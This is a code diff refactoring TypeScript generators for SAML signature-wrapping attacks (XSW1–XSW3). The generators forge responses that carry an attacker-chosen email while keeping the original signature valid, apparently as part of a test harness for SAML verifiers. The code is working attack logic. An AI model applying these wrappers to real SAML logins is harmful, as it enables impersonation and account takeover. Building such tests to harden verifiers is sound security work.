@@ -59,34 +59,27 @@ function onAssertion(fn: (doc: Document, response: Element, original: Element, e
   };
 }
 
+/** XSW1/XSW2: an evil clone of the response takes its place; `place` puts the signed original inside it. */
+function evilResponseAround(signedXml: string, evilEmail: string, place: (evil: Element, sig: Element, original: Node) => void): string {
+  const doc = parse(signedXml);
+  const original = doc.documentElement!;
+  const evil = original.cloneNode(true) as Element;
+  evil.setAttribute('ID', '_evilresponse');
+  const assertion = first(evil, ASSERTION_NS, 'Assertion');
+  evil.replaceChild(evilAssertion(assertion, evilEmail), assertion);
+  place(evil, directChild(evil, DSIG_NS, 'Signature')!, withoutSignature(original));
+  doc.replaceChild(evil, original);
+  return serialize(doc);
+}
+
 /** Signature wrapping of a signed assertion, and of a signed response (XSW1, XSW2: mint with `sign: 'both'`). */
 export const WRAPPING: Readonly<Record<string, Wrap>> = {
   // XSW1: a new (unsigned) response around a copy of the signature, the signed response inside the signature.
-  'xsw1-response-clone-inside-signature': (signedXml, evilEmail) => {
-    const doc = parse(signedXml);
-    const original = doc.documentElement!;
-    const evil = original.cloneNode(true) as Element;
-    evil.setAttribute('ID', '_evilresponse');
-    const assertion = first(evil, ASSERTION_NS, 'Assertion');
-    evil.replaceChild(evilAssertion(assertion, evilEmail), assertion);
-    const sig = directChild(evil, DSIG_NS, 'Signature')!;
-    sig.appendChild(withoutSignature(original));
-    doc.replaceChild(evil, original);
-    return serialize(doc);
-  },
+  'xsw1-response-clone-inside-signature': (signedXml, evilEmail) =>
+    evilResponseAround(signedXml, evilEmail, (evil, sig, original) => sig.appendChild(original)),
   // XSW2: as XSW1, the signed response placed before the signature (detached).
-  'xsw2-response-clone-before-signature': (signedXml, evilEmail) => {
-    const doc = parse(signedXml);
-    const original = doc.documentElement!;
-    const evil = original.cloneNode(true) as Element;
-    evil.setAttribute('ID', '_evilresponse');
-    const assertion = first(evil, ASSERTION_NS, 'Assertion');
-    evil.replaceChild(evilAssertion(assertion, evilEmail), assertion);
-    const sig = directChild(evil, DSIG_NS, 'Signature')!;
-    evil.insertBefore(withoutSignature(original), sig);
-    doc.replaceChild(evil, original);
-    return serialize(doc);
-  },
+  'xsw2-response-clone-before-signature': (signedXml, evilEmail) =>
+    evilResponseAround(signedXml, evilEmail, (evil, sig, original) => evil.insertBefore(original, sig)),
   // XSW3: an evil assertion before the signed one.
   'xsw3-evil-assertion-before-signed': onAssertion((doc, response, original, evilEmail) => {
     response.insertBefore(evilAssertion(original, evilEmail), original);
